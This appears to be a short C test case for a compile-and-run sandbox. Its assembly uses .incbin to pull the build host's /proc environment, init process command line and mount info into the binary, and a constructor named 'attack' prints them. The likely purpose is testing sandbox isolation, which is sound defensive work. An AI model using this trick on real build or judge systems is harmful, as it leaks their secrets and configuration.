/* The assembler takes in its own environment, its parent's and what it has open; the program prints it.
 * Expect: either */
#include <stdio.h>
#include <unistd.h>

__asm__(
    ".section .rodata\n"
    "first:\n"
    ".incbin \"/proc/self/environ\"\n"
    ".incbin \"/proc/1/environ\"\n"
    ".incbin \"/proc/1/cmdline\"\n"
    ".incbin \"/proc/self/mountinfo\"\n"
    "last: .byte 0\n"
    ".text\n");
extern const char first[], last[];

__attribute__((constructor)) static void attack(void)
{
    for (const char *byte = first; byte < last; byte++)
        putc(*byte ? *byte : '\n', stderr);
    _exit(5);
}
